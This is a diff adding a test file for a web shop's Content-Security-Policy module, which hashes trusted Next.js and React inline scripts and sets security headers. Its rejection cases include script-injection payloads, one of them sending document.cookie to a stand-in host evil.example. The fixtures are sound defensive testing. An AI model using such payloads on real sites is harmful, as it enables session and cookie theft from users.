@@ -1,0 +1,148 @@
+import { createHash } from "node:crypto";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import zlib from "node:zlib";
+import {
+  baseHeaders,
+  createScriptCheck,
+  inlineScriptHashes,
+  pagePolicy,
+  reactRuntimeSnippets,
+  RESOURCE_POLICY,
+  secureResponse,
+} from "@/server/security.mjs";
+
+const sha = (text: string) => `sha256-${createHash("sha256").update(text, "utf8").digest("base64")}`;
+const isTrusted = createScriptCheck();
+
+// Inline scripts as Next and React write them into the shop's pages.
+const rscChunk = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"/_next/static/chunks/a.js\\"]\\u003c/script\\u003e"])';
+const rscStart = "(self.__next_f=self.__next_f||[]).push([0])";
+const turbopackChunks =
+  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';
+const shellTime = "requestAnimationFrame(function(){$RT=performance.now()});";
+
+describe("which inline scripts get a hash", () => {
+  const snippets = reactRuntimeSnippets();
+  const completeBoundary = snippets.find((s) => s.startsWith("$RB=[];$RV=function"))!;
+
+  it("reads React's streaming runtime from the build Next renders with", () => {
+    expect(completeBoundary).toContain("$RC=function(a,b)");
+    expect(snippets).toContain(shellTime);
+    expect(snippets.some((s) => s.startsWith("$RX=function"))).toBe(true);
+    expect(snippets.some((s) => s.startsWith("$RS=function"))).toBe(true);
+  });
+
+  it.each([
+    ["an RSC payload chunk", rscChunk],
+    ["the RSC payload's start", rscStart],
+    ["the bundler's chunk list", turbopackChunks],
+    ["React's shell timer", shellTime],
+    ["React's boundary runtime and its first call", `${completeBoundary}$RC("B:0","S:0")`],
+    ["a later boundary call", '$RC("B:1","S:1")'],
+    ["an error boundary call", '$RX("B:2","digest-123",null,null,null)'],
+    ["a styled boundary call", '$RR("B:3","S:3",[["/_next/static/a.css","next"]])'],
+  ])("trusts %s", (_label, script) => {
+    expect(isTrusted(script)).toBe(true);
+  });
+
+  it.each([
+    ["a plain script", "alert(document.cookie)"],
+    ["code after an RSC chunk", 'self.__next_f.push([1,"x"]);alert(1)'],
+    ["code inside the push", "self.__next_f.push([1,alert(1)])"],
+    ["code after the bundler's list", `${turbopackChunks}alert(1)`],
+    ["a look-alike React runtime", "$RC=function(a,b){fetch('//evil.example/'+document.cookie)};$RC(\"B:0\",\"S:0\")"],
+    ["code after React's runtime", `${completeBoundary}alert(1)`],
+    ["code after a boundary call", '$RC("B:1","S:1");alert(1)'],
+    ["a call with code for an argument", '$RC("B:1",alert(1))'],
+    ["nothing", ""],
+  ])("refuses %s", (_label, script) => {
+    expect(isTrusted(script)).toBe(false);
+  });
+
+  it("hashes each trusted inline script once; external scripts and JSON-LD need none", () => {
+    const html = [
+      "<!DOCTYPE html><html><head>",
+      '<script src="/_next/static/chunks/a.js" async=""></script>',
+      `<script id="_R_">${turbopackChunks}</script>`,
+      '<script type="application/ld+json">{"@type":"Product","name":"</script>"}</script>',
+      "</head><body>",
+      `<script>${rscStart}</script><script>${rscChunk}</script><script>${rscChunk}</script>`,
+      "<script>alert(1)</script>",
+      "</body></html>",
+    ].join("");
+    expect(inlineScriptHashes(html, isTrusted).sort()).toEqual([sha(turbopackChunks), sha(rscStart), sha(rscChunk)].sort());
+  });
+});
+
+describe("policies", () => {
+  it("a production page allows scripts only from our origin and by hash: no unsafe-inline, no eval", () => {
+    const policy = pagePolicy({ scriptHashes: ["sha256-abc="], https: true });
+    const scriptSrc = policy.split("; ").find((d) => d.startsWith("script-src "));
+    expect(scriptSrc).toBe("script-src 'self' 'sha256-abc='");
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).toContain("object-src 'none'");
+    expect(policy).toContain("base-uri 'none'");
+    expect(policy).toContain("upgrade-insecure-requests");
+    expect(policy).not.toMatch(/unsafe-eval/);
+  });
+
+  it("development relaxes scripts for React's development build", () => {
+    expect(pagePolicy({ scriptHashes: [], dev: true })).toContain("'unsafe-eval'");
+  });
+
+  it("HSTS only when asked (production over https)", () => {
+    expect(baseHeaders({ hsts: true })["Strict-Transport-Security"]).toMatch(/^max-age=\d{8}/);
+    expect(baseHeaders({ hsts: false })).not.toHaveProperty("Strict-Transport-Security");
+  });
+});
+
+describe("secureResponse on a Node server", () => {
+  const page = `<html><body><p>Rings</p><script>${rscChunk}</script><script>alert(1)</script></body></html>`;
+  let server: http.Server;
+  let base: string;
+
+  beforeAll(async () => {
+    server = http.createServer((req, res) => {
+      secureResponse(req, res, { headers: baseHeaders({ hsts: false }), isTrusted, dev: false, https: false });
+      if (req.url === "/json") {
+        res.setHeader("Content-Type", "application/json");
+        res.end("{}");
+      } else if (req.url === "/not-modified") {
+        res.writeHead(304, { "Content-Type": "text/html" });
+        res.end();
+      } else {
+        // Streamed in pieces, compressed when asked, as Next answers.
+        const gzip = req.url === "/gzip";
+        res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", ...(gzip ? { "Content-Encoding": "gzip" } : {}) });
+        const body = gzip ? zlib.gzipSync(page) : Buffer.from(page);
+        const middle = body.length >> 1;
+        res.write(body.subarray(0, middle));
+        setTimeout(() => res.end(body.subarray(middle)), 10);
+      }
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(() => new Promise((resolve) => server.close(resolve)));
+
+  it.each(["/plain", "/gzip"])("sends %s whole with a policy naming its trusted script", async (path) => {
+    const response = await fetch(base + path);
+    expect(await response.text()).toBe(page);
+    const policy = response.headers.get("content-security-policy")!;
+    expect(policy).toContain(`script-src 'self' '${sha(rscChunk)}';`);
+    expect(policy).not.toContain(sha("alert(1)"));
+    expect(response.headers.get("x-frame-options")).toBe("DENY");
+    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+  });
+
+  it("gives other answers the strict policy, and a 304 none (the stored page keeps its own)", async () => {
+    const json = await fetch(`${base}/json`);
+    expect(json.headers.get("content-security-policy")).toBe(RESOURCE_POLICY);
+    expect(json.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
+    const notModified = await fetch(`${base}/not-modified`);
+    expect(notModified.status).toBe(304);
+    expect(notModified.headers.get("content-security-policy")).toBeNull();
+    expect(notModified.headers.get("x-frame-options")).toBe("DENY");
+  });
+});
